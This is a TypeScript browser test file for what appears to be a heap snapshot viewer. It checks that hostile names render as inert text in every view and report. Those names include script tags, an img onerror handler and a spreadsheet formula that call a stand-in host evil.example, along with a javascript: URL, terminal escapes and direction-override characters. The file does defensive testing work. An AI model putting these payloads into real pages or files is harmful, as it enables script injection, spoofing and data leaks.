/**
 * A snapshot full of what must not be believed: tags, addresses that run, terminal escapes, marks that turn the reading direction,
 * names without width and of a megabyte, in every place where a heap has text. The page shows all of it, as text, in every view
 * and through all three links; nothing of it runs, and nothing asks another machine.
 */
import { readFileSync } from "node:fs";
import { drawFile } from "@heapscope/testkit";
import type { Page } from "playwright-core";
import { beforeAll, describe, expect, it } from "vitest";
import {
  eventually,
  goTo,
  PAIR_PLACES,
  ViewerSession,
  watch,
  whenDrawn,
  whenFilled,
} from "./viewer-session.ts";

let session: ViewerSession;
let file: string;
let later: string;

/** What would say that it has run. */
const RUNS = 'alert("ran");fetch("http://evil.example/")';

const TAG = `<script>${RUNS}</script>`;
const IMAGE = `<img src="http://evil.example/x.png" onerror='${RUNS}'>`;
const ADDRESS = `javascript:${RUNS}`;
const END = `</script></title></style><script>${RUNS}</script><!--`;
const ESCAPE = "\u001b]0;owned\u0007\u001b[2J\u001b[31mred";
const TURN = "admin\u202Egnp.exe\u2066\u2069";
const ZERO = "in\u200Bvi\u200Dsi\uFEFFble\u0000end";
const LONE = "lone \ud800 surrogate \udfff";
const LONG = "W".repeat(1 << 20);
const PROTO = "__proto__";
const FORMULA = '=HYPERLINK("http://evil.example/","x")';

const EVIL = [
  TAG,
  IMAGE,
  ADDRESS,
  END,
  ESCAPE,
  TURN,
  ZERO,
  LONE,
  LONG,
  PROTO,
  FORMULA,
  "constructor",
  "toString",
];

/** The drawing has plain names; each is exchanged for an evil one, as class, string, property, function and script. */
function drawEvil(more: number): string {
  const lines = EVIL.flatMap((_, at) => {
    const id = 1001 + at * 100;
    return [
      `global -p${at}_property-> o${at}:Evil${at}Class(24)@${id}<${12 + at}:2:25>`,
      `o${at} -p${at}_value-> s${at}:string:"evil${at}string"(40)@${id + 2}`,
      `o${at} -p${at}_again-> t${at}:string:"evil${at}string"(40)@${id + 4}`,
      `o${at} -p${at}_call-> f${at}:closure:"evil${at}function"(64)@${id + 6}<${12 + at}:4:18> =shared=> i${at}:code:"(shared function info)"(88)@${id + 8}`,
      `i${at} =script=> c${at}:code:"evil${at}script"(120)@${id + 10} =name=> u${at}:string:"evil${at}script"(40)@${id + 12}`,
      ...Array.from(
        { length: more },
        (_x, n) => `o${at} -q${n}-> n${at}x${n}:Evil${at}Class(24)@${id + 20 + 2 * n}`,
      ),
    ];
  });
  return drawFile(`global:object:global(96)@5\n${lines.join("\n")}`, { runtime: "node-24" });
}

function makeEvil(more: number): string {
  const parsed = JSON.parse(drawEvil(more)) as { strings: string[] };
  parsed.strings = parsed.strings.map((text) => {
    const at = /^(?:evil|Evil|p)(\d+)(?:Class|string|function|script|_property|_value|_again|_call)$/.exec(
      text,
    )?.[1];
    return at === undefined ? text : EVIL[Number(at)]!;
  });
  return JSON.stringify(parsed);
}

beforeAll(async () => {
  session = await ViewerSession.start();
  file = session.write(`<img src=x onerror=alert(1)>.heapsnapshot`, makeEvil(1));
  later = session.write(`later\u202E.heapsnapshot`, makeEvil(4));
});
watch(() => session);

const HASHES = [
  ...PAIR_PLACES,
  ...EVIL.map((_, at) => `#/2/object?id=${1001 + at * 100}`),
  `#/2/object?id=1007`,
];

/** Shows a place to its end: rows are opened, too. */
async function look(page: Page, hash: string): Promise<string> {
  await goTo(page, hash);
  await eventually(() => page.evaluate(() => location.hash)).toBe(hash);
  await eventually(() => page.locator("main").innerText()).not.toBe("");
  const grid = page.getByRole("treegrid").first();
  if ((await grid.count()) > 0) {
    await eventually(() => grid.getAttribute("aria-busy")).toBe("false");
    await grid.focus();
    for (const key of ["Home", "*", "End"]) await page.keyboard.press(key);
  }
  await whenDrawn(page);
  return page.locator("body").innerText();
}

/** What must never be in a document made of these files. */
async function checkDocument(page: Page, isReport = false): Promise<void> {
  const found = await page.evaluate(() => ({
    scripts: document.querySelectorAll("script").length,
    images: [...document.images].length,
    frames: document.querySelectorAll("iframe, object, embed").length,
    addresses: [...document.querySelectorAll("[href], [src], [action]")]
      .flatMap((element) => ["href", "src", "action"].map((name) => element.getAttribute(name) ?? ""))
      .map((address) => new URL(address, document.baseURI).href)
      .filter((address) => address !== "data:," && !address.startsWith(new URL(".", document.baseURI).href)),
    handlers: [...document.querySelectorAll("*")].filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith("on")),
    ).length,
    text: document.body.innerText,
    title: document.title,
    hints: [...document.querySelectorAll("[title], [aria-label]")].map(
      (element) => `${element.getAttribute("title") ?? ""}${element.getAttribute("aria-label") ?? ""}`,
    ),
  }));
  expect(found.images + found.frames + found.handlers).toBe(0);
  expect(found.scripts).toBeLessThanOrEqual(isReport ? 2 : 1);
  expect(found.addresses).toEqual([]);
  for (const text of [found.text, found.title, ...found.hints]) {
    expect(text).not.toMatch(
      // oxlint-disable-next-line no-control-regex, no-misleading-character-class -- exactly those must not be there
      /[\u0000-\u0008\u000b-\u001f\u007f\u200b\u200d\u202a-\u202e\u2066-\u2069\ufeff]/,
    );
    expect(text.length, "no megabyte name is drawn").toBeLessThan(60_000);
  }
}

describe("a hostile snapshot", () => {
  it("is text in every view, through the server", async () => {
    const page = await session.newPage();
    await page.goto(await session.serve([file, later]));
    for (const hash of HASHES) {
      await look(page, hash);
      await checkDocument(page);
    }
    for (const part of ["<script>alert", "<img src=", "javascript:alert", "__proto__"])
      expect(await look(page, `#/2/summary?text=${encodeURIComponent(part)}`)).toContain(part);
    const search = await look(page, `#/2/search?text=${encodeURIComponent("<img")}`);
    await eventually(() => page.locator(".hs-table-row").count()).toBeGreaterThan(0);
    expect(search).toContain("<img");
    await checkDocument(page);
    await page.context().close();
  });

  it("is text in the page that reads it itself", async () => {
    const page = await session.newPage();
    const { url } = await session.serveAndKill([], ["--json"]);
    await page.goto(url);
    await page.locator('input[type="file"]').setInputFiles([file, later]);
    await page.locator(".hs-navigation").waitFor();
    for (const hash of HASHES.slice(0, 12)) {
      await look(page, hash);
      await checkDocument(page);
    }
    await page.context().close();
  });

  it("is text in a report", async () => {
    const address = session.report([file, later]);
    const html = readFileSync(address.slice("file://".length), "utf8");
    expect(html.match(/<script/gi)!.length).toBeLessThanOrEqual(3);
    expect(html).not.toContain("<img");
    const page = await session.newPage();
    await page.goto(address);
    for (const hash of [
      "#/2/overview",
      "#/2/summary",
      "#/2/comparison?base=1",
      "#/2/statistics",
      "#/2/strings",
    ]) {
      await look(page, hash);
      await checkDocument(page, true);
    }
    await page.context().close();
  });

  it("makes no formula of a spreadsheet", async () => {
    const page = await session.newPage();
    await page.goto(`${await session.serve([file])}#/1/summary?text=HYPERLINK`);
    const grid = page.getByRole("treegrid").first();
    await whenFilled(grid);
    await grid.focus();
    await page.keyboard.press("Home");
    await page.keyboard.press("Control+Shift+c");
    await eventually(() => page.evaluate(() => navigator.clipboard.readText())).toMatch(/\n'=HYPERLINK/);
    await page.context().close();
  });
});
